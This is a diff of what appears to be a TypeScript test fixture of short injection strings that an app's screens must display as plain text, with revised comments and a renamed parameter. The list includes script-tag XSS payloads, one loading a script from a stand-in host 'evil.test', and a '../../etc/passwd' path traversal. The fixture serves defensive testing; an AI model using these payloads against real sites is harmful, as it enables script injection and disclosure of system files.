@@ -1,7 +1,10 @@
 /** Scripts that leave a trace when they run: a dialog or a property of `window`. */
 const scripts = ['alert(1)', 'window.owned=1'] as const;
 
-/** Texts of at most 100 characters that change if a page treats text as markup, style, address or template. */
+/**
+ * Attack texts of at most 100 characters each, which every screen must show as plain text. They attack code that treats a text as markup,
+ * style, script, URL, template, SQL, path or property name.
+ */
 export const payloads: readonly string[] = [
   ...scripts.map((script) => `<script>${script}</script>`),
   '<script src=//evil.test/x.js></script>',
@@ -77,8 +80,8 @@ export const payloads: readonly string[] = [
   '../../etc/passwd',
 ];
 
-/** Returns the payloads of at most this length. */
-export const payloadsUpTo = (length: number) => payloads.filter((payload) => payload.length <= length);
+/** Returns the payloads of at most `maxLength` characters. */
+export const payloadsUpTo = (maxLength: number) => payloads.filter((payload) => payload.length <= maxLength);
 
 /** A PNG of one pixel. */
 export const TINY_IMAGE = Buffer.from(
